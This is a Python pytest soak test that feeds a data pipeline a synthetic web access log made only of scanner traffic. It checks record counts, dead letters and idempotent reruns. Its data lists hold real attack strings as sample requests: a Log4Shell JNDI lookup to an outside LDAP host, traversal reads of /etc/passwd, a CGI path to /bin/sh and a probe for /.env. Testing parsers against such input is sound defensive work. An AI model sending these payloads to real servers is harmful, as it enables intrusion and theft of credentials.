"""A log in which nobody but scanners asks for anything: six hours of the day, robots, odd methods, lines that are no request.

Two thirds of each day are quiet, and on no day is there a page of the blog. All of it becomes gold, with every check green, and
doing it again computes nothing that has partitions.
"""

from __future__ import annotations

import random
import re
from collections import Counter
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from deltalake import DeltaTable

pytestmark = pytest.mark.timeout(3600)

START = datetime(2024, 3, 1, tzinfo=UTC)
DAYS, HOURS = 2, 6
AGENTS = [
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "-",
    "${jndi:ldap://203.0.113.1/a}",
]
REQUESTS = [
    "GET /.env HTTP/1.1",
    "GET /wp-login.php?redirect=/../../etc/passwd HTTP/1.1",
    "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1",
    "PROPFIND / HTTP/1.1",
    "OPTIONS * HTTP/1.0",
    "CONNECT 203.0.113.7:443 HTTP/1.1",
    "HEAD http://203.0.113.8:80/mysql/admin/ HTTP/1.1",
    r"GET /index.php?s=/index/\\think\"x HTTP/1.1",
]
NO_REQUESTS = [
    "-",
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc",
    "",
    r"t3 12.1.2\n",
    r"\x03\x00\x00/*\xe0",
    "MGLNDD_203.0.113.9_443",
]
"""What a server writes of bytes that are no request: dead letters, and few of them."""


def test_scanners_become_gold_and_the_second_run_computes_nothing(
    soak_seed: int, run_de: Callable[..., str], tmp_path: Path
) -> None:
    random_ = random.Random(soak_seed)  # noqa: S311 - a log, not a secret
    hours = sorted(random_.sample(range(24), HOURS))
    asked: list[tuple[datetime, str]] = []
    for begin in (START + timedelta(days=day, hours=hour) for day in range(DAYS) for hour in hours):
        requests = random_.choices(REQUESTS, k=random_.randint(20, 40)) + random_.choices(
            NO_REQUESTS, k=random_.randint(0, 3)
        )
        asked += [(begin + timedelta(seconds=random_.randrange(3600)), request) for request in requests]
    log = tmp_path / "access.log"
    log.write_text("".join(_line(at, request, random_) for at, request in sorted(asked)))
    dead = sum(request in NO_REQUESTS for _, request in asked)

    words = ("run", "--once", "--without-services", "--log", str(log))
    first = run_de(*words, seconds=1500)
    assert f"{len(asked):,} records, {dead:,} dead letter(s), {len(asked) - dead:,} understood" in first
    for output in (first, again := run_de(*words, seconds=1500)):
        assert ", 0 failed; " in output
        assert [line for line in output.splitlines() if re.match(r"  (failed|error|held back) ", line)] == []

    assert re.findall(r"│ (\w+/\w+) +│ \d+ +│.*│ (?:\d+ )?written", again) == []
    visits = Counter(at.date() for at, request in asked if request not in NO_REQUESTS)
    assert _visits_of_the_cube(tmp_path / "home") == visits


def _line(at: datetime, request: str, random_: random.Random) -> str:
    address, agent = f"203.0.113.{random_.randrange(200)}", random_.choice(AGENTS)
    status = random_.choice([400, 404, 405, 301, 200])
    return f'{address} - - [{at:%d/%b/%Y:%H:%M:%S +0000}] "{request}" {status} {random_.randrange(500)} "-" "{agent}"\n'


def _visits_of_the_cube(home: Path) -> Counter[date]:
    """Per day, as the whole of all dimensions."""
    rows = DeltaTable(str(home / "lake" / "gold" / "visits_cube_daily")).to_pyarrow_table().to_pylist()
    return Counter({row["event_date"]: row["visits"] for row in rows if row["grouping"] == 7})
